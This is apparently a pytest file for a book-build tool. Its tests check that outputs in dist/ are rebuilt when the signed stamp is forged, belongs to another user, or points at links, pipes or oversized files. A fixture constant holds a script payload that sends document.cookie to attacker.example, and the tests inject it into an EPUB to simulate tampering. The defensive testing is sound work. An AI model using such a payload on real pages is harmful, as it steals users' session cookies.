"""What is in ``dist/`` is evidence, not trust (issue 27).

The no-change check calls outputs up to date only when this user on this
machine made them: the stamp ``dist/.edition-build.json`` is signed with the
user's own secret (the caches' ``cache.sign``) and names each output's size and
SHA-256, which are checked on the file itself (never through a link). Each case
must build again, and say why in one line at ``-v``. Also: a project path that
no file name may hold is one diagnostic, up front; links into the project do
not fool the no-change check.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import signal
import zipfile
from pathlib import Path

import pytest

from edition.cli import main
from edition.commands import freshness
from edition.infra import cache

from .projects import BIB_MIN, make_project, section

STAMP = ".edition-build.json"
SCRIPT = b"<script>fetch('https://attacker.example/?'+document.cookie)</script>"


@pytest.fixture
def own_secret(tmp_path, monkeypatch):
    """A cache secret of the test's own; ``use(name)`` switches to another user's."""

    def use(name: str) -> None:
        monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "users" / name))
        cache.secret.cache_clear()

    use("me")
    yield use
    cache.secret.cache_clear()


@pytest.fixture
def project(tmp_path) -> Path:
    return make_project(tmp_path / "p", sections={"01-one.md": section("The author's words.\n")}, bib=BIB_MIN)


def build(project: Path, capsys, *args: str) -> tuple[int, str, str]:
    """``python build.py -v --format epub`` in-process: status, stdout, the ``building:`` line."""
    capsys.readouterr()
    code = main(["-v", "--format", "epub", "--out", str(project / "dist"), *args], project=project)
    printed = capsys.readouterr()
    why = [line for line in printed.err.splitlines() if line.startswith("building: ")]
    return code, printed.out, why[0] if why else ""


def up_to_date(project: Path) -> str:
    return f"up to date: nothing to build in {project / 'dist'}\n"


def doctor(epub: Path) -> bytes:
    """The EPUB with a script added to its page: what a stranger's dist/ would carry."""
    with zipfile.ZipFile(epub) as source:
        entries = {info: source.read(info) for info in source.infolist()}
    for info in entries:
        if info.filename.endswith("test-01-one.xhtml"):
            entries[info] = entries[info].replace(b"</body>", SCRIPT + b"</body>")
    with zipfile.ZipFile(epub, "w") as target:
        for info, data in entries.items():
            target.writestr(info, data)
    return epub.read_bytes()


def forge(project: Path, name: str, data: bytes) -> None:
    """Edit the stamp to name ``data`` as ``name``'s bytes, as anyone could."""
    path = project / "dist" / STAMP
    stamp = json.loads(path.read_text(encoding="utf-8"))
    entry = stamp["outputs"][name]
    entry["sha256"] = hashlib.sha256(data).hexdigest()
    if "size" in entry:
        entry["size"] = len(data)
    path.write_text(json.dumps(stamp, indent=2), encoding="utf-8")


def shipped(project: Path) -> bool:
    with zipfile.ZipFile(project / "dist/test.epub") as epub:
        return any(SCRIPT in epub.read(n) for n in epub.namelist())


@pytest.mark.usefixtures("own_secret")
def test_a_forged_stamp_over_a_doctored_output_is_built_again(project, capsys):
    """A dist/ that came with the project: a ``<script>`` added to the EPUB, the
    stamp edited to match it (and dated in the future): "up to date"."""
    assert build(project, capsys)[0] == 0
    forge(project, "test.epub", doctor(project / "dist/test.epub"))
    future = 4_102_444_800  # 2100-01-01
    for path in (project / "dist").iterdir():
        os.utime(path, (future, future))
    code, out, why = build(project, capsys)
    assert code == 0 and out.startswith("built ")
    assert why == f"building: {project / 'dist' / STAMP} was not made by this user on this machine (or was edited)"
    assert not shipped(project)
    assert build(project, capsys)[1] == up_to_date(project)


def test_a_stamp_of_another_user_or_machine_is_not_ours(project, capsys, own_secret, monkeypatch):
    assert build(project, capsys)[0] == 0
    own_secret("someone-else")  # the same dist/, read by another user
    code, out, why = build(project, capsys)
    assert out.startswith("built ") and why.endswith("was not made by this user on this machine (or was edited)")
    assert build(project, capsys)[1] == up_to_date(project)
    monkeypatch.setattr(freshness, "machine", lambda: "uid 0 on another machine")
    code, out, why = build(project, capsys)
    assert out.startswith("built ") and why.endswith("was not made by this user on this machine (or was edited)")


def test_an_entry_of_a_stamp_not_ours_is_never_signed_anew(project, capsys, own_secret):
    """A build of one format keeps the stamp's other entries: it must not sign
    a stranger's entry for the PDF, which the next build would then trust."""
    assert build(project, capsys, "--format", "pdf")[0] == 0
    pdf = (project / "dist/test.pdf").read_bytes()
    own_secret("someone-else")
    (project / "dist/test.pdf").write_bytes(pdf.replace(b"%%EOF", b"%%EOF\n% doctored"))
    forge(project, "test.pdf", (project / "dist/test.pdf").read_bytes())
    assert build(project, capsys)[1].startswith("built test.preflight.json, test.epub ")
    assert "test.pdf" not in json.loads((project / "dist" / STAMP).read_text())["outputs"]
    code, out, why = build(project, capsys, "--format", "pdf")
    assert out.startswith("built ") and why == "building: test.pdf is not in the stamp"


@pytest.mark.usefixtures("own_secret")
def test_an_output_that_is_not_the_file_the_stamp_records_is_built_again(project, capsys):
    """The stamp is ours; the file is not the one it records. A link to a copy
    with the very bytes (``dist/test.epub -> copy.epub``) was called up to date."""
    assert build(project, capsys)[0] == 0
    epub = project / "dist/test.epub"
    for change, reason in (
        ("doctor", "test.epub is not the file the stamp records (changed since it was built)"),
        ("remove", "test.epub is missing"),
        ("link", "test.epub is a symbolic link"),
        ("pipe", "test.epub is not a regular file"),
    ):
        if change == "doctor":
            doctor(epub)
        elif change == "remove":
            epub.unlink()
        elif change == "link":
            (project / "dist/copy.epub").write_bytes(epub.read_bytes())
            epub.unlink()
            epub.symlink_to("copy.epub")
        else:
            epub.unlink()
            os.mkfifo(epub)
        code, out, why = build(project, capsys)
        assert code == 0 and out.startswith("built ") and why == f"building: {reason}", change
        assert not epub.is_symlink() and not shipped(project)
        assert build(project, capsys)[1] == up_to_date(project)


@pytest.mark.usefixtures("own_secret")
def test_a_stamp_that_is_no_stamp_is_never_a_hang_or_a_crash(project, capsys, tmp_path):
    """The stamp was read with ``read_text``: a named pipe in its place made the
    build wait for ever, JSON nested 100,000 deep was an internal error (exit 1)."""
    assert build(project, capsys)[0] == 0
    stamp = project / "dist" / STAMP
    good = stamp.read_bytes()
    (tmp_path / "elsewhere.json").write_bytes(good)
    for kind, reason in (
        ("pipe", "is not a regular file of at most 16 MiB"),
        ("deep", "is not a stamp of this version"),
        ("link", "is not a regular file of at most 16 MiB"),  # even to a stamp of ours
        ("huge", "is not a regular file of at most 16 MiB"),
    ):
        stamp.unlink()
        if kind == "pipe":
            os.mkfifo(stamp)
        elif kind == "deep":
            stamp.write_bytes(b"[" * 100_000 + b"]" * 100_000)
        elif kind == "link":
            stamp.symlink_to(tmp_path / "elsewhere.json")
        else:
            with open(stamp, "wb") as handle:
                handle.truncate(freshness.MAX_STAMP + 1)
        with bounded(60):
            code, out, why = build(project, capsys)
        assert code == 0 and out.startswith("built ") and why == f"building: {stamp} {reason}", kind


@contextlib.contextmanager
def bounded(seconds: int):
    """A hang fails the test instead of stopping the run."""

    def hung(*_):
        raise AssertionError("the build waits")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


# -- the project's own path ------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a\nb", "a\x1b[31mb", "a\tb"])
def test_a_project_path_no_file_may_hold_is_one_diagnostic(tmp_path, capsys, name):
    """Each file of the project was blamed (``file.name``), 14 lines for the paper."""
    project = make_project(tmp_path / name / "p", bib=BIB_MIN)
    for watch in ([], ["--watch"]):
        assert main(["-q", *watch, "--out", str(tmp_path / "out")], project=project) == 2
        shown = str(project).encode("unicode_escape").decode("ascii")
        assert capsys.readouterr().err.splitlines() == [
            f"error: the project's folder {shown} has a path that is not UTF-8 text or holds a control character "
            "(a line break, a tab, an escape); the build reads no file below it: rename the folder or move the project "
            "[file.name]"
        ]
    assert not (tmp_path / "out").exists()


# -- links into the project --------------------------------------------------------------------


@pytest.mark.usefixtures("own_secret")
def test_a_link_into_the_projects_root_does_not_fool_the_no_change_check(project, capsys):
    """``content/test/root -> ../..``: the snapshot walked the whole project
    through the link, caches and temporary files included, so the first build
    said its inputs changed while it read them."""
    (project / "content/test/root").symlink_to("../..")
    (project / "content/test/self").symlink_to(".")
    (project / "common").mkdir()
    (project / "common/notes.txt").write_text("outside the input folders\n")
    (project / "content/test/common").symlink_to("../../common")
    (project / "content/test/out").symlink_to("../../dist")  # the output folder: written by the build
    (project / "content/test/cache").symlink_to("../../.edition-cache")  # hidden: never read
    capsys.readouterr()
    assert main(["--format", "epub", "--out", str(project / "dist")], project=project) == 0
    printed = capsys.readouterr()
    assert printed.out.startswith("built ") and "input files changed" not in printed.err
    (project / ".edition-cache" / "other").mkdir(parents=True, exist_ok=True)  # hidden: never read
    (project / "tmp").mkdir()
    (project / "tmp/scratch").write_text("a temporary file of another program\n")
    assert build(project, capsys)[1] == up_to_date(project)
    # a file of the project reached through a link is still an input
    (project / "common/notes.txt").write_text("edited\n")
    code, out, why = build(project, capsys)
    assert out.startswith("built ") and why == "building: the inputs changed since test.preflight.json was built"
